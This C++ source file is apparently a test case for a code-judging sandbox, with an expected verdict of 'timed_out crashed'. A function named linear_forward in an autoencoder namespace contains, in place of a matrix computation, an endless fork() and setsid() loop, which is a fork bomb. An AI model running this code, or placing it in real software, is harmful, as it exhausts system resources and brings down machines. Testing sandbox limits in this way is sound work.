// Forks without end.
// verdict: timed_out crashed

#include <unistd.h>

#include "autoencoder.hpp"

namespace latent {

Matrix linear_forward(const Matrix& x, const Matrix& weight, const RowVector&) {
  for (;;) {
    if (fork() == 0) setsid();
  }
}

}  // namespace latent
